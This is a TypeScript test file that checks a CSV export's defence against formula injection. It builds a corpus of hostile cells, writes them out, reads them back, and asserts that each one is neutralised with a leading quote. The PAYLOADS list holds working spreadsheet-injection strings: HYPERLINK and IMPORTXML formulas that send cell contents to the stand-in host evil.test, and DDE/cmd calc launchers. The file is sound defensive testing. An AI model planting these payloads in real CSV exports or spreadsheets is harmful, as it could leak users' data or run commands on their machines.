import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_EOL, csvRecord, formulaSafe, isFormulaLike } from './csv';

// Issue #11: one formula-safety rule for every CSV the product writes (OWASP "CSV injection"). A corpus of
// hostile cells is written through csvRecord and read back with papaparse: every cell's text is kept, and
// every cell a spreadsheet could evaluate carries the leading quote that makes it text.

// The rule as the test states it, independently of csv.ts: the characters a spreadsheet may skip before a
// formula (every Unicode space, invisible joiners, quotes of every kind) and those that start one.
const SPACES = [
  '\t',
  '\n',
  '\v',
  '\f',
  '\r',
  ' ',
  '\u0085',
  '\u00A0',
  '\u1680',
  '\u2000',
  '\u2001',
  '\u2002',
  '\u2003',
  '\u2004',
  '\u2005',
  '\u2006',
  '\u2007',
  '\u2008',
  '\u2009',
  '\u200A',
  '\u2028',
  '\u2029',
  '\u202F',
  '\u205F',
  '\u3000',
  '\uFEFF',
];
const INVISIBLES = ['\u00AD', '\u180E', '\u200B', '\u200C', '\u200D', '\u2060'];
const QUOTES = [
  '"',
  "'",
  '`',
  '\u2018',
  '\u2019',
  '\u201A',
  '\u201B',
  '\u201C',
  '\u201D',
  '\u201E',
  '\u201F',
  '\u00AB',
  '\u00BB',
  '\u2039',
  '\u203A',
  '\uFF02',
  '\uFF07',
];
const TRIGGERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE62', '\uFE63', '\uFE66', '\u2212'];
const SKIPPABLE = new Set([...SPACES, ...INVISIBLES, ...QUOTES]);

/** Whether a text is dangerous as a cell: tab, CR or NUL first, or a trigger first after skippable characters. */
function dangerous(text: string): boolean {
  if (/^[\t\r\0]/.test(text)) return true;
  let i = 0;
  while (i < text.length && SKIPPABLE.has(text[i]!)) i++;
  return i < text.length && TRIGGERS.includes(text[i]!);
}

const LEADS = [
  '',
  ' ',
  '  ',
  '\u00A0',
  '\u3000',
  '\u2003',
  '\uFEFF',
  '\u200B',
  '\n',
  '\r\n',
  '\t',
  '"',
  '""',
  "'",
  ' "',
  '\u201C',
  '\u201E',
  '\uFF02',
  '\u00A0"',
  '\n "',
];
const PAYLOADS = [
  'HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  "cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C calc'!A0",
  '1+1',
  '2+3',
  'IMPORTXML(CONCAT("http://evil.test/?v=",B2),"//a")',
  'DDE("cmd";"/C calc";"!A0")A0',
];

/** Leads × triggers × payloads: 20 × 12 × 7 = 1,680 hostile cells, plus tab-, CR- and NUL-led ones. */
const HOSTILE = [
  ...LEADS.flatMap((lead) => TRIGGERS.flatMap((trigger) => PAYLOADS.map((payload) => `${lead}${trigger}${payload}`))),
  '\t=1+1',
  '\r=1+1',
  '\tplain after a tab',
  '\rplain after a carriage return',
  '\u0000=1+1',
];

/** Whether a spreadsheet would evaluate a cell as read: dangerous and not led by the text marker '. */
const evaluates = (cell: string) => !cell.startsWith("'") && dangerous(cell);

/**
 * Text a spreadsheet shows as it is: kept untouched. '|' and '%' start no formula (decision in csv.ts), and a
 * trigger after a letter, digit or bracket is no formula start either.
 */
const BENIGN = [
  'e-mail',
  '3-pack',
  'Drill 18V - cordless',
  'a=b',
  'x+y',
  'user@example.com',
  '"quoted" name',
  "it's",
  '',
  ' ',
  'Ünïcödé 🔧',
  'line one\nline two',
  '100% cotton',
  '%PDF-1.7',
  '|pipe|',
  'A|B',
  'C++',
  '(555) 123-4567',
  '«Qualität»',
  '„Zitat“ - gut',
  '5 - 3',
  '\n\nlater',
];
/** Writes the cells as a CSV (each on a row with a marker column) and reads it back with papaparse. */
function roundTrip(cells: readonly string[]): string[] {
  // Behind a header, as in every export (papaparse would drop a BOM that opens the text).
  const csv = csvRecord(['cell', 'row']) + cells.map((cell, i) => csvRecord([cell, i])).join('');
  const parsed = Papa.parse<string[]>(csv, { delimiter: ',', newline: CSV_EOL });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data.slice(1).filter((row) => row.length === 2);
  expect(rows.map((row) => Number(row[1]))).toEqual(cells.map((_, i) => i));
  return rows.map((row) => row[0]!);
}

describe('formula safety of every CSV cell', () => {
  it(`neutralises all ${HOSTILE.length} hostile cells of the corpus and keeps their text`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(150);
    expect(HOSTILE.every(dangerous)).toBe(true);
    const read = roundTrip(HOSTILE);
    expect(read).toHaveLength(HOSTILE.length);
    read.forEach((cell, i) => {
      expect(cell).toBe(`'${HOSTILE[i]}`);
      expect(evaluates(cell)).toBe(false);
    });
  });

  it('leaves benign text untouched', () => {
    expect(BENIGN.some(dangerous)).toBe(false);
    expect(roundTrip(BENIGN)).toEqual(BENIGN);
  });

  it('catches the probe misses: a formula after a quote, a space, a no-break space or a line feed, and the full-width forms', () => {
    for (const cell of ['"=1+1', ' =1+1', '\u00A0=1+1', '\n=1+1', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)']) {
      expect(formulaSafe(cell)).toBe(`'${cell}`);
    }
  });

  it('writes numbers from numeric data as numbers, a negative one included', () => {
    expect(csvRecord([-5, 2.5, 'text'])).toBe(`-5,2.5,text${CSV_EOL}`);
  });

  it('for any text: the round trip keeps it, quoted exactly when dangerous, and what is read back never evaluates', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 20 }),
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc
        .tuple(
          fc.array(fc.constantFrom(...SKIPPABLE), { maxLength: 4 }),
          fc.constantFrom(...TRIGGERS, '\0', '|', '%', 'a', '1', '('),
          fc.string({ maxLength: 10 }),
        )
        .map(([lead, first, rest]) => lead.join('') + first + rest),
    );
    fc.assert(
      fc.property(text, (cell) => {
        expect(isFormulaLike(cell)).toBe(dangerous(cell));
        const [read] = roundTrip([cell]);
        expect(read).toBe(dangerous(cell) ? `'${cell}` : cell);
        expect(evaluates(read!)).toBe(false);
      }),
      { numRuns: 3_000, seed: 20261125 },
    );
  });
});
